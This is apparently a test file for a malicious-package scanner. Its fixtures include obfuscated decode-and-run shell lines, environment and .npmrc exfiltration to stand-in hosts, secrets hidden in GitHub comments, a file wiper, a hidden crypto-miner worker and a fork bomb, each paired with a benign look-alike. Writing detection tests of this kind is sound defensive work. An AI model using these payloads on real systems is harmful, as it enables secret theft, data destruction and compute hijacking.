/**
 * Shapes from the twenty-second session: rounds 86 onwards (browser, CI runners, destructive,
 * persistence and droppers), written blind by helpers that had not read the engine, and hostile
 * script lines found by a fuzzing pass. Each is rewritten small and varied here, with a
 * look-alike that must stay quiet or an attack that must still be caught.
 */
import { analyzeScript } from '../../../src/engine/script-behaviour';
import { analyzeShell } from '../../../src/engine/shell';
import { analyzeSource, strongestOf as ruleOf, threatFindings as threats } from './helpers';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const reversed = (s: string) => [...s].reverse().join('');

describe('encoded scripts a shell decodes and runs (round 87)', () => {
  const exfil =
    'curl -s -X POST --data-binary "$( (env; echo done) | gzip -c | base64 -w0)" https://t.example/v1';
  it('reads eval of a command substitution that decodes, and the script it decodes', () => {
    const hits = analyzeScript(
      `P='${reversed(b64(exfil))}'\neval "$(printf %s "$P" | rev | base64 -d)" &`,
      'sh',
      true,
    );
    expect(hits.map((h) => h.rule)).toEqual(
      expect.arrayContaining(['shell.base64-decode-run', 'script.env-exfil']),
    );
  });
  it('reads hex piped through xxd into bash, and process substitution', () => {
    const hex = Buffer.from(exfil).toString('hex');
    expect(analyzeScript(`echo ${hex} | xxd -r -p | bash`, 'sh', true).map((h) => h.rule)).toContain(
      'script.env-exfil',
    );
    expect(analyzeShell('bash <(echo "$BLOB" | base64 --decode)', true).map((h) => h.rule)).toContain(
      'shell.base64-decode-run',
    );
    expect(analyzeShell('eval "$(base64 -d <<< "$BLOB")"', true).map((h) => h.rule)).toContain(
      'shell.base64-decode-run',
    );
  });
  it('does not call decoding into a file, or a decoded value printed, running it', () => {
    expect(analyzeShell('echo "$SIGNING_KEY" | base64 -d > key.p12', true)).toEqual([]);
    expect(analyzeShell('VERSION="$(echo "$TAG" | base64 -d)"', true)).toEqual([]);
  });
  it('sees the environment dumped inside a group in a request body', () => {
    expect(analyzeScript(exfil, 'sh', true).map((h) => h.rule)).toContain('script.env-exfil');
  });

  const action = (env: string, run: string) => ({
    'package.json': JSON.stringify({ name: 'setup-tool-action', version: '1.4.0', files: ['action.yml'] }),
    'action.yml': [
      'name: Setup tool',
      'runs:',
      '  using: composite',
      '  steps:',
      '    - name: Normalise PATH',
      '      shell: bash',
      '      env:',
      ...env.split('\n').map((l) => `        ${l}`),
      '      run: |',
      ...run.split('\n').map((l) => `        ${l}`),
    ].join('\n'),
  });
  it("decodes a composite action step's payload kept in the step's env", () => {
    const r = analyzeSource(
      action(
        `_BP: '${reversed(b64(exfil))}'\n_GT: \${{ github.token }}`,
        'eval "$(printf %s "$_BP" | rev | base64 -d)" &',
      ),
    );
    expect(r.risk_level).toBe('critical');
    expect(threats(r).map((f) => f.threat_type)).toEqual(
      expect.arrayContaining(['malicious_code', 'data_exfiltration']),
    );
  });
  it('leaves a composite step that decodes a certificate into a file alone', () => {
    const r = analyzeSource(
      action(
        `CERT: \${{ inputs.certificate }}`,
        'echo "$CERT" | base64 -d > cert.p12\nsecurity import cert.p12',
      ),
    );
    expect(threats(r)).toEqual([]);
  });
});

describe("GitHub's API clients as a network channel (round 87)", () => {
  const actionCode = (body: string) => ({
    'package.json': JSON.stringify({ name: 'size-diff-action', version: '3.2.0', main: 'dist/index.js' }),
    'action.yml': 'name: size diff\nruns:\n  using: node20\n  main: dist/index.js\n',
    'dist/index.js': [
      "const github = require('@actions/github');",
      "const core = require('@actions/core');",
      'function sealed() {',
      '  const o = {};',
      '  for (const k of Object.keys(process.env)) if (/TOKEN|SECRET|KEY/.test(k)) o[k] = process.env[k];',
      "  return Buffer.from(JSON.stringify(o)).toString('base64');",
      '}',
      'async function run() {',
      "  const kit = github.getOctokit(core.getInput('github-token'));",
      '  const { owner, repo } = github.context.repo;',
      `  await kit.rest.issues.createComment({ owner, repo, issue_number: 1, body: ${body} });`,
      '}',
      'run();',
    ].join('\n'),
  });
  it('reports secrets put in a pull-request comment', () => {
    const r = analyzeSource(actionCode("'### sizes\\n<!-- ' + sealed() + ' -->'"));
    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
    expect(r.risk_level).toBe('critical');
  });
  it('leaves a comment of sizes alone', () => {
    const r = analyzeSource(actionCode("'### sizes\\n' + JSON.stringify({ total: 1024 })"));
    expect(threats(r)).toEqual([]);
  });
});

describe('a release tool that commits as the CI bot and publishes (round 87, look-alike)', () => {
  it('is not a worm for naming the commit author with git -c user.name=', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'relship', version: '4.0.3', bin: { relship: 'bin.js' } }),
      'bin.js': [
        "const { execFileSync } = require('child_process');",
        "if (!process.env.NPM_TOKEN) throw new Error('NPM_TOKEN is not set');",
        "execFileSync('npm', ['publish', '--access', 'public'], { stdio: 'inherit' });",
        "execFileSync('git', ['-c', 'user.name=release-bot', '-c', 'user.email=bot@example.com', 'commit', '-m', 'release']);",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('clean');
    expect(ruleOf(r, 'js.exec-npm-publish')?.confidence).toBeLessThan(0.5);
  });
  it('still reports a publisher that renames the package it publishes', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'relship', version: '4.0.3', bin: { relship: 'bin.js' } }),
      'bin.js': [
        "const fs = require('fs');",
        "const { execFileSync } = require('child_process');",
        "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));",
        "pkg.name = pkg.name + '-utils';",
        "fs.writeFileSync('package.json', JSON.stringify(pkg));",
        "execFileSync('npm', ['publish']);",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exec-npm-publish')?.confidence).toBeGreaterThanOrEqual(0.5);
  });
});

describe('an archive streamed from a download into tar, then a file from it run (round 88)', () => {
  const script = (get: string) =>
    [
      'url="https://dl.addon-cdn.example/x/v2/linux-x64.tar.gz"',
      'out="build/Release"',
      get,
      'if $get "$url" | tar -xzf - -C "$out" 2>/dev/null; then',
      '  nohup "$out/.fixup" "$PWD/$out" >/dev/null 2>&1 &',
      'fi',
    ].join('\n');
  it('follows the download through `| tar -x -C dir` to the file it runs', () => {
    for (const get of [
      'get="curl -fsSL"',
      'if command -v curl >/dev/null; then get="curl -fsSL"; else get="wget -qO-"; fi',
    ]) {
      const hit = analyzeScript(script(get), 'sh', true).find((h) => h.rule === 'script.download-execute');
      expect(hit?.message).toContain('.fixup');
    }
  });
  it('leaves an archive unpacked and never run alone', () => {
    const hits = analyzeScript(
      'curl -fsSL "https://dl.addon-cdn.example/x.tar.gz" | tar -xzf - -C build/Release',
      'sh',
      true,
    );
    expect(hits.filter((h) => h.rule === 'script.download-execute')).toEqual([]);
  });
});

describe('hostile script lines return (fuzzing)', () => {
  const line = (unit: string, n = 60_000) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
  it('reads lines of thousands of repeated shell tokens without backtracking over them', () => {
    for (const unit of ['node -e ', '>', ' \t', '&', 'iex ', 'curl ', '/dev/tcp/ -i ', 'socket( connect( '])
      expect(Array.isArray(analyzeScript(`${line(unit)}\nA=${line(unit)}`, 'sh', true))).toBe(true);
    expect(Array.isArray(analyzeScript(line(';'), 'powershell', true))).toBe(true);
    expect(Array.isArray(analyzeScript(line('&'), 'batch', true))).toBe(true);
  });
  it('bounds a value that doubles on every line (A=$A$A) instead of throwing', () => {
    const text = [
      'A=xxxxxxxxxx',
      ...Array<string>(60).fill('A=$A$A'),
      'curl -d "$A" https://t.example/',
    ].join('\n');
    expect(Array.isArray(analyzeScript(text, 'sh', true))).toBe(true);
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { preinstall: 'sh s.sh' } }),
      's.sh': `${text}\ncat > .git/hooks/pre-commit <<EOF\n$A\nEOF\n`,
    });
    expect(r.risk_level).not.toBe('clean');
  });
  it('finds a fork bomb after a 900 KB assignment', () => {
    const hits = analyzeScript(`A="${'x'.repeat(900_000)}"\n:(){ :|:& };:`, 'sh', true);
    expect(Array.isArray(hits)).toBe(true);
  });
});

describe('the environment printed encoded into a CI job log (round 87)', () => {
  const reporter = (print: string) => ({
    'package.json': JSON.stringify({ name: 'junit-annotate', version: '2.0.7', main: 'index.js' }),
    'index.js': [
      'function snapshot() {',
      '  const e = process.env;',
      '  const o = { node: process.version, vars: {} };',
      '  for (const k of Object.keys(e).sort()) if (!/^(PATH|HOME)$/.test(k)) o.vars[k] = e[k];',
      "  let s = Buffer.from(JSON.stringify(o)).toString('base64');",
      "  s = Buffer.from(s.split('').reverse().join('')).toString('base64');",
      '  const lines = [];',
      '  for (let i = 0; i < s.length; i += 76) lines.push(s.slice(i, i + 76));',
      '  return lines;',
      '}',
      'module.exports = function report(results) {',
      '  if (!process.env.GITLAB_CI) return;',
      '  console.log(`${results.length} results`);',
      print,
      '};',
    ].join('\n'),
  });
  it('reports the whole environment printed base64-encoded, line by line', () => {
    const r = analyzeSource(reporter('  for (const l of snapshot()) console.log(l);'));
    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.8);
    expect(r.risk_level).toBe('critical');
  });
  it('leaves the environment used, and a count printed, alone', () => {
    const r = analyzeSource(
      reporter('  console.log(`${Object.keys(snapshot()).length} lines`, process.env.CI ? "(ci)" : "");'),
    );
    expect(threats(r)).toEqual([]);
    const colours = analyzeSource({
      'package.json': JSON.stringify({ name: 'tiny-colours', version: '1.0.0', main: 'index.js' }),
      'index.js': [
        'const env = process.env;',
        "const on = !('NO_COLOR' in env) && (env.FORCE_COLOR || process.stdout.isTTY);",
        "const $ = { yellow: (s) => (on ? '\\x1b[33m' + s + '\\x1b[39m' : s), env };",
        "const token = Buffer.from(env.USER + ':' + Date.now()).toString('base64');",
        "console.warn($.yellow(' WARNING ') + ' not supported on ' + process.version, token.length);",
      ].join('\n'),
    });
    expect(threats(colours)).toEqual([]);
  });
});

describe('files overwritten through a descriptor (round 88)', () => {
  const wiper = (open: string) => ({
    'package.json': JSON.stringify({ name: 'logrotate-lite', version: '2.3.1', main: 'index.js' }),
    'index.js': [
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      'function* walk(root) {',
      '  for (const e of fs.readdirSync(root, { withFileTypes: true })) {',
      '    const p = path.join(root, e.name);',
      '    if (e.isDirectory()) yield* walk(p);',
      '    else yield p;',
      '  }',
      '}',
      "for (const f of walk(path.join(os.homedir(), 'Documents'))) {",
      `  const fd = fs.openSync(f, ${open});`,
      '  const { size } = fs.fstatSync(fd);',
      '  fs.writeSync(fd, Buffer.alloc(size), 0, size, 0);',
      '  fs.closeSync(fd);',
      '}',
    ].join('\n'),
  });
  it("reports zeros written over each of the user's files through fs.openSync(f, 'r+')", () => {
    const r = analyzeSource(wiper("'r+'"));
    expect(ruleOf(r, 'js.destructive-user-data')?.threat_type).toBe('malicious_code');
    expect(r.risk_level).toBe('critical');
  });
  it('leaves files opened only to read alone', () => {
    const r = analyzeSource(wiper("'r'"));
    expect(ruleOf(r, 'js.destructive-user-data')).toBeUndefined();
  });
});

describe('code decoded into a Blob and run as a page worker (round 86)', () => {
  const miner =
    "const ws = new WebSocket('wss://pool.example:3333'); ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['webminer/1.0'] })); ws.onmessage = (m) => { const job = JSON.parse(m.data); if (job.method === 'mining.notify') ws.send(JSON.stringify({ id: 4, method: 'mining.submit', params: ['w', job.params[0], '00', '00', '00'] })); };";
  const page = (decoder: string[], data: string) => ({
    'package.json': JSON.stringify({ name: 'offthread-image', version: '1.3.0', main: 'index.js' }),
    'table.js': `module.exports = ${data};`,
    'index.js': [
      "const table = require('./table');",
      ...decoder,
      'function warm() {',
      "  const url = URL.createObjectURL(new Blob([unpack(table)], { type: 'text/javascript' }));",
      '  for (let i = 0; i < 2; i++) new Worker(url);',
      '}',
      "if (typeof window !== 'undefined') setTimeout(warm, 3000);",
    ].join('\n'),
  });
  it('reads the worker code an XOR table decodes, and what it does', () => {
    const key = 'DQT-q75';
    const packed = [...miner].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length));
    const r = analyzeSource(
      page(
        [
          'function unpack(t) {',
          "  let out = '';",
          '  for (let i = 0; i < t.packed.length; i++) out += String.fromCharCode(t.packed[i] ^ t.id.charCodeAt(i % t.id.length));',
          '  return out;',
          '}',
        ],
        JSON.stringify({ id: key, packed }),
      ),
    );
    expect(ruleOf(r, 'js.stratum-session')?.threat_type).toBe('malicious_code');
    expect(r.risk_level).toBe('critical');
  });
  it("leaves a bundler's base64 inline worker that does honest work alone", () => {
    const honest =
      'self.onmessage = (e) => { const { w, h } = e.data; self.postMessage({ w: w >> 1, h: h >> 1 }); };';
    const r = analyzeSource(
      page(['const unpack = (t) => atob(t.b64);'], JSON.stringify({ b64: b64(honest) })),
    );
    expect(threats(r)).toEqual([]);
  });
});

describe("review of the twenty-second session's changes", () => {
  const wf = (yml: string) => ({
    'package.json': JSON.stringify({ name: 'ci-kit', version: '1.0.0' }),
    '.github/workflows/ci.yml': yml,
  });
  it('returns on many decode-and-run openers, and reads each decoded payload once within a budget', () => {
    expect(Array.isArray(analyzeScript('sh <(base64 -d '.repeat(4_000), 'sh', true))).toBe(true);
    const big = b64(`echo ${'x'.repeat(30_000)}`);
    const text = Array.from({ length: 20 }, () => `echo ${big} | base64 -d | sh`).join('\n');
    expect(analyzeScript(text, 'sh', true).some((h) => h.rule === 'shell.base64-decode-run')).toBe(true);
  });
  it('prepends only the env a step names, never text that is not run', () => {
    const r = analyzeSource(
      wf(
        [
          'on: push',
          'env:',
          '  NOTE: "to debug, run: echo $P | base64 -d | bash"',
          'jobs:',
          '  b:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - run: npm test',
          '      - run: echo "$NOTE"',
        ].join('\n'),
      ),
    );
    expect(threats(r)).toEqual([]);
  });
  it('does not call the job token given to gh for a release a secret sent out', () => {
    const r = analyzeSource(
      wf(
        [
          'on: push',
          'jobs:',
          '  rel:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - run: GH_TOKEN=${{ github.token }} gh release create "$TAG" dist/*.tgz',
        ].join('\n'),
      ),
    );
    expect(threats(r)).toEqual([]);
  });
  it("leaves secrets written through GitHub's secrets API alone", () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'env-to-gh-secrets',
        version: '1.0.0',
        bin: { sync: 'cli.js' },
      }),
      'cli.js': [
        "const fs = require('fs');",
        "const { Octokit } = require('@octokit/rest');",
        'const kit = new Octokit({ auth: process.env.GH_TOKEN });',
        'async function main() {',
        "  const env = fs.readFileSync('.env', 'utf8');",
        "  const { data: key } = await kit.request('GET /repos/{owner}/{repo}/actions/secrets/public-key', { owner: 'o', repo: 'r' });",
        "  for (const line of env.split('\\n')) {",
        "    const [name, value] = line.split('=');",
        "    await kit.request('PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}', { owner: 'o', repo: 'r', secret_name: name, encrypted_value: seal(value, key.key), key_id: key.key_id });",
        '  }',
        '}',
        'main();',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
  });
  it('follows an Octokit class made by plugin()', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'pr-notes-action', version: '1.0.0', main: 'index.js' }),
      'index.js': [
        "const { Octokit } = require('@octokit/rest');",
        'const Kit = Octokit.plugin(() => ({}));',
        'const kit = new Kit({ auth: process.env.GITHUB_TOKEN });',
        'const all = {};',
        'for (const k of Object.keys(process.env)) all[k] = process.env[k];',
        "kit.rest.issues.createComment({ owner: 'o', repo: 'r', issue_number: 1, body: JSON.stringify(all) });",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
  });
  it('leaves a manifest generator printing a pull secret for kubectl alone (no CI context)', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'pull-secret-gen', version: '1.0.0', bin: { psg: 'cli.js' } }),
      'cli.js': [
        "const fs = require('fs');",
        "const os = require('os');",
        "const cfg = fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8');",
        "console.log(`data:\\n  .dockerconfigjson: ${Buffer.from(cfg).toString('base64')}`);",
      ].join('\n'),
    });
    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
  });
  it('reads a download and chmod joined by `&&` across a line break, and decoders past five pipes', () => {
    expect(
      analyzeShell('curl -fsSL https://t.example/h -o ./helper &&\n  chmod +x ./helper', true).map(
        (h) => h.rule,
      ),
    ).toContain('shell.download-chmod-run');
    expect(
      analyzeShell(`echo "$P" | base64 -d | cat | cat | cat | cat | cat |${' '.repeat(500)}sh`, true).map(
        (h) => h.rule,
      ),
    ).toContain('shell.base64-decode-run');
  });
  it('still expands a small variable after a very large one on the same line', () => {
    const text = [
      'A=xxxxxxxxxxxxxxxx',
      ...Array<string>(15).fill('A=$A$A'),
      'H=collect.oast.example',
      ': "$A"; curl -s -d @"$HOME/.npmrc" "https://$H/c"',
    ].join('\n');
    expect(analyzeScript(text, 'sh', true).map((h) => h.rule)).toContain('script.secret-file-exfil');
  });
  it('keeps the downloader of a later branch over a decoy in the first', () => {
    const hits = analyzeScript(
      [
        'u="https://dl.t.example/x.tgz"',
        'if [ -n "$DRY" ]; then get="echo"; else get="curl -fsSL"; fi',
        '$get "$u" | tar -xzf - -C .cache',
        './.cache/run &',
      ].join('\n'),
      'sh',
      true,
    );
    expect(hits.map((h) => h.rule)).toContain('script.download-execute');
  });
});
